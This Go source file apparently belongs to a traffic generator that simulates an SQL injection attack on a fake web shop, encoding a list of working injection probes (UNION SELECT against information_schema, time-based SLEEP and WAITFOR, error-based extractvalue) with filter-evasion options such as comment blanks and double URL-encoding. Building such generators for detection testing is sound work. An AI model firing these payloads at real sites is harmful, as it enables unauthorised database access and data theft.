package attack

import (
	"cmp"
	"net/url"
	"strconv"
	"strings"

	"github.com/evilbench/evilbench/generator/dialogue"
	"github.com/evilbench/evilbench/generator/draw"
	"github.com/evilbench/evilbench/generator/packet"
)

// SQLInjection puts SQL fragments into a search parameter: the probes by which a tester finds out whether input reaches a query.
type SQLInjection struct {
	Web     `yaml:",inline"`
	Evasion string `yaml:"evasion" json:"evasion"` // none, comments (for blanks), case (mixed), double (percent-encoded twice)
}

func newSQLInjection() Attack {
	return &SQLInjection{Web: Web{Rate: 2, PerConn: 3, Port: 80}, Evasion: plain}
}

// Validate checks the parameters.
func (a *SQLInjection) Validate() error {
	return cmp.Or(a.Web.Validate(), among("evasion", a.Evasion, []string{plain, "comments", "case", "double"}))
}

// Evades implements Evader.
func (a *SQLInjection) Evades() string { return disguise(a.Evasion) }

var fragments = []string{
	"1'", "1' OR '1'='1", "1' OR 1=1-- -", "1) OR (1=1", "1' AND 1=2-- -", "1' ORDER BY 7-- -", "1' UNION SELECT NULL-- -",
	"1' UNION SELECT NULL,NULL,NULL-- -", "-1' UNION ALL SELECT 1,version(),3-- -", "1' AND SLEEP(5)-- -", "1;WAITFOR DELAY '0:0:5'--",
	"1' AND (SELECT COUNT(*) FROM information_schema.tables)>0-- -", "1' AND extractvalue(1,concat(0x7e,version()))-- -",
	"1' UNION SELECT table_name,NULL FROM information_schema.tables-- -", "admin'--",
}

// Step is one connection. Nothing is ever given away: a fragment finds nothing, or breaks the page.
func (a *SQLInjection) Step(k int, s *Site, r *draw.Stream) []packet.Conversation {
	return a.talk(stageExploit, k, s, r, func(i int) dialogue.HTTPExchange {
		x := dialogue.HTTPExchange{
			Target: "/products.php?cat=" + strconv.Itoa(1+r.IntN(40)) + "&id=" + a.encode(fragments[i%len(fragments)]),
			Status: 200, ReplyType: html, Reply: results,
		}
		if r.Chance(0.4) {
			x.Status, x.Reply = 500, failed
		}
		return x
	})
}

// encode writes a fragment as a query value.
func (a *SQLInjection) encode(fragment string) string {
	switch a.Evasion {
	case "comments":
		fragment = strings.ReplaceAll(fragment, " ", "/**/")
	case "case":
		fragment = mixed(fragment)
	case "double":
		fragment = url.QueryEscape(fragment)
	}
	return url.QueryEscape(fragment)
}

// mixed turns every second letter around.
func mixed(s string) string {
	b := []byte(s)
	for i := 0; i < len(b); i += 2 {
		if c := b[i] | 0x20; c >= 'a' && c <= 'z' {
			b[i] ^= 0x20
		}
	}
	return string(b)
}
